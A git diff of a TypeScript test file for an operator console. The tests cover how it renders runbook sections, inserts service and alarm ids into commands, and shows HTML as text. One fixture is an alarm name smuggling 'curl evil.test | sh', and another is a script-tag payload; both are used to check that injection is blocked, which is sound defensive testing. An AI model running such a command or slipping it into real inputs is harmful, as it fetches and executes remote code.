@@ -17,32 +17,32 @@ const elementsIn = (node: Node): string[] =>
 const section = (markdown: string) => sectionIn(`# Page\n\n## One\n\n${markdown}\n\n## Two\n\nOther`, 'one', IDS);
 const texts = (markdown: string) => section(markdown)?.blocks.map(textOf);
 
-describe('a section of the runbook', () => {
-  it('a section of the runbook ends before the next heading of its level', () => {
+describe('runbook sections in the operator console', () => {
+  it('a section of the runbook ends at the next heading of the same level', () => {
     expect(section('First.\n\n### Inside\n\nSecond.')).toMatchObject({ title: 'One' });
     expect(texts('First.\n\n### Inside\n\nSecond.')).toEqual(['First.', 'Inside', 'Second.']);
   });
 
-  it('a section of the runbook has the ids of the service and of the alarm only in its commands', () => {
+  it('the console inserts the ids of the service and of the alarm into the commands of a runbook section', () => {
     expect(texts('```sh\noperator doctor\n```')).toEqual([`${IDS.operator} doctor`]);
     expect(texts('`operator doctor`')).toEqual([`${IDS.operator} doctor`]);
     expect(texts('`aws logs tail /partner-lines/prod/NAME`')).toEqual(['aws logs tail /partner-lines/staging/relay']);
     expect(texts('The NAME of /partner-lines/prod/')).toEqual(['The NAME of /partner-lines/prod/']);
   });
 
-  it("a section of the runbook has the name of the alarm's function, even on a stage with a hyphen in its name", () => {
+  it('the console inserts the function of an alarm into runbook commands, even if the stage has a hyphen in its name', () => {
     const alarm = 'partner-lines-kr-prod-many-faults-relay';
     const found = sectionIn('## One\n\n`/partner-lines/prod/NAME`', 'one', { ...IDS, alarm });
     expect(found?.blocks.map(textOf)).toEqual(['/partner-lines/staging/relay']);
   });
 
-  it("a section of the runbook has the name of the alarm's function in its commands only if this name is valid", () => {
+  it('the console does not insert an invalid function name into the commands of a runbook section', () => {
     const alarm = 'partner-lines-staging-errors-relay; curl evil.test | sh';
     const found = sectionIn('## One\n\n`mapping enable --name NAME`', 'one', { ...IDS, alarm });
     expect(found?.blocks.map(textOf)).toEqual(['mapping enable --name NAME']);
   });
 
-  it('a section of the runbook links a command to the page of the console that does the same, if there is one', () => {
+  it('the console adds a link to a runbook command if a console page does the same as the command', () => {
     const linksIn = (node: Node): string[] =>
       typeof node === 'string' ? [] : [...(node.href ? [node.href] : []), ...node.children.flatMap(linksIn)];
     const links = (markdown: string) => section(markdown)?.blocks.flatMap(linksIn);
@@ -60,7 +60,7 @@ describe('a section of the runbook', () => {
   const onLocal = (markdown: string) =>
     sectionIn(`## One\n\n${markdown}`, 'one', { ...IDS, dataDir: '/tmp/my $& data' })?.blocks.map(textOf);
 
-  it('a section of the runbook has commands for the logs of a stack or for the log file of a local service', () => {
+  it('the log commands of a runbook section read the logs of the stack, or the log file of the local service', () => {
     const lines = [
       'logs api-access 15m \'{ $.status = "5*" }\'',
       '# local: grep 5 .local/service.log | tail',
@@ -80,7 +80,7 @@ describe('a section of the runbook', () => {
     ]);
   });
 
-  it('a section of the runbook for a local service omits the commands, steps, rows and paragraphs that only AWS has', () => {
+  it('the runbook of a local service omits commands, steps, rows and paragraphs that apply only to AWS', () => {
     const command = '```sh\noperator doctor\nX=$(aws a \\\n  --b)\naws c\n```';
     expect(onLocal(command)).toEqual([`${IDS.operator} doctor\n`]);
     expect(onLocal('```sh\naws a\n```')).toEqual([]);
@@ -94,7 +94,7 @@ describe('a section of the runbook', () => {
     expect(texts(rows)?.join()).toContain('aws a');
   });
 
-  it('a section of the runbook has the ids from the address in its commands and links', () => {
+  it("the console inserts the ids from the page's address into the commands and links of a runbook section", () => {
     const ids = { ...IDS, alarm: undefined, partner: 'pt_1', line: 'ln_1', call: 'a b' };
     const code = '`partner show --partner P`, `line show --tenant T`, `call show --call C` and [more](#two)';
     const found = sectionIn(`## One\n\n${code}`, 'one', ids);
@@ -106,7 +106,7 @@ describe('a section of the runbook', () => {
     expect(JSON.stringify(found)).toContain('"/runbook/two?partner=pt_1&line=ln_1&call=a+b"');
   });
 
-  it('a section of the runbook is made of elements, so that markup in it stays text', () => {
+  it('the console shows HTML tags in a runbook section as text', () => {
     const found = section('1. A **list**\n   ```sh\n   <b>\n   ```\n\n| a |\n|---|\n| [b](#two) |');
     expect(found?.blocks.flatMap(elementsIn)).toEqual([
       'ol',
@@ -123,7 +123,7 @@ describe('a section of the runbook', () => {
     expect(texts('<script>alert(1)</script>')).toEqual(['<script>alert(1)</script>']);
   });
 
-  it('a section of the runbook links to other headings of the runbook, but not to another document', () => {
+  it('a section of the runbook has links to other headings of the runbook, but no links to other documents', () => {
     const href = `/runbook/two?alarm=${IDS.alarm}`;
     expect(section('[There](#two)')?.blocks).toEqual([
       { tag: 'p', children: [{ tag: 'a', children: ['There'], href }] },
@@ -131,7 +131,7 @@ describe('a section of the runbook', () => {
     expect(section('[There](deploy.md)')?.blocks.flatMap(elementsIn)).toEqual(['p', 'span']);
   });
 
-  it('every heading under Alarms in the runbook is found by its GitHub anchor', async () => {
+  it('the console finds every heading under Alarms in the runbook by its GitHub anchor', async () => {
     const [, alarms = ''] = readFileSync(join(projectDir(), 'docs/runbook.md'), 'utf8').split('\n# Alarms\n');
     const headings = [...alarms.matchAll(/^## (.+)$/gm)].map(([, title = '']) => title);
     expect(headings.length).toBeGreaterThan(20);
